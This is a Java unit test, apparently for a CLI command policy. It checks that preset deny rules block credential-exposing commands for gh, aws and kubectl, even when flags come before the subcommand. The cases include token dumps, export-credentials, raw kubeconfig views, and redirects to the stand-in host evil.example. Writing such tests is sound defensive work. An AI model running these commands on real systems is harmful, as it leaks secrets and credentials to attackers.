package kap.clix;

import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import kap.policy.AddressClassifier;
import kap.policy.CliTool;
import kap.policy.ConfigLoader;
import kap.policy.ListenDefaults;
import kap.policy.Policy;
import kap.policy.Verdict;

import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.is;

/**
 * The presets' deny rules hold whatever the tool's own allow list says, and global flags placed before the
 * subcommand (in any spelling) do not hide it.
 */
class PresetTest {

    private static final Policy POLICY = Policy.of(ConfigLoader.parse("""
            [cli]
            [[cli.tools]]
            name = "gh"
            allow = ["*"]
            [[cli.tools]]
            name = "aws"
            allow = ["*"]
            [[cli.tools]]
            name = "kubectl"
            allow = ["*"]
            [[cli.tools]]
            name = "gh-work"
            preset = "gh"
            allow = ["*"]
            [[cli.tools]]
            name = "gh-bare"
            preset = "none"
            allow = ["*"]
            [[cli.tools]]
            name = "oops"
            preset = "nope"
            allow = ["*"]
            """, Path.of("kap.toml"), ListenDefaults.CONTAINER).config(), AddressClassifier.create(java.util.Set::of));

    record Case(String command, Verdict verdict, String rule) {
        @Override
        public String toString() {
            return command;
        }
    }

    static Stream<Case> cases() {
        return Stream.of(
                new Case("gh auth token", Verdict.DENY, "auth token"),
                new Case("gh --repo x auth token", Verdict.DENY, "auth token"),
                new Case("gh -R x auth token", Verdict.DENY, "auth token"),
                new Case("gh --repo=x auth token", Verdict.DENY, "auth token"),
                new Case("gh --unknown-flag x auth token", Verdict.DENY, "auth token"),
                new Case("gh auth status --show-token", Verdict.DENY, "auth status --show-token"),
                new Case("gh auth status -t", Verdict.DENY, "auth status -t"),
                new Case("gh auth git-credential get", Verdict.DENY, "auth git-credential"),
                new Case("gh config set editor vim", Verdict.DENY, "config set"),
                new Case("gh extension install owner/gh-ext", Verdict.DENY, "extension install"),
                new Case("gh alias set co pr", Verdict.DENY, "alias set"),
                new Case("gh pr list --repo o/r", Verdict.ALLOW, "*"),
                new Case("gh config get git_protocol", Verdict.ALLOW, "*"),
                new Case("aws s3 ls", Verdict.ALLOW, "*"),
                new Case("aws --endpoint-url http://evil.example s3 ls", Verdict.DENY, "--endpoint-url"),
                new Case("aws s3 ls --endpoint-url=http://evil.example", Verdict.DENY, "--endpoint-url"),
                new Case("aws --debug s3 ls", Verdict.DENY, "--debug"),
                new Case("aws configure export-credentials", Verdict.DENY, "configure export-credentials"),
                new Case("aws --profile prod --region eu-west-1 configure export-credentials", Verdict.DENY,
                        "configure export-credentials"),
                new Case("aws sts assume-role --role-arn arn:x", Verdict.DENY, "sts assume-role*"),
                new Case("aws sts get-caller-identity", Verdict.ALLOW, "*"),
                new Case("kubectl get pods", Verdict.ALLOW, "*"),
                new Case("kubectl -n kube-system get pods", Verdict.ALLOW, "*"),
                new Case("kubectl config view", Verdict.ALLOW, "*"),
                new Case("kubectl config view --raw", Verdict.DENY, "config view --raw"),
                new Case("kubectl --context prod config view --raw", Verdict.DENY, "config view --raw"),
                new Case("kubectl -s https://evil.example get pods", Verdict.DENY, "--server"),
                new Case("kubectl config set-credentials me --token=x", Verdict.DENY, "config set*"),
                new Case("kubectl create token default", Verdict.DENY, "create token"),
                new Case("gh-work auth token", Verdict.DENY, "auth token"),
                new Case("gh-bare auth token", Verdict.ALLOW, "*"),
                new Case("oops anything", Verdict.DENY, null));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void judges(Case c) {
        List<String> words = Arrays.asList(c.command().split(" "));
        CliTool tool = POLICY.config().cli().orElseThrow().tool(words.getFirst()).orElseThrow();
        CommandJudge.Judgement j = CommandJudge.judge(POLICY, tool, Presets.of(tool), words.subList(1, words.size()));
        assertThat(j.decision().reason(), j.decision().verdict(), is(c.verdict()));
        assertThat(j.decision().rule(), is(Optional.ofNullable(c.rule())));
        if (c.rule() == null) {
            assertThat(j.decision().reason(), containsString("unknown preset 'nope'"));
        } else if (c.verdict() == Verdict.DENY) {
            assertThat(j.origin().orElseThrow(), containsString("preset"));
        }
    }
}
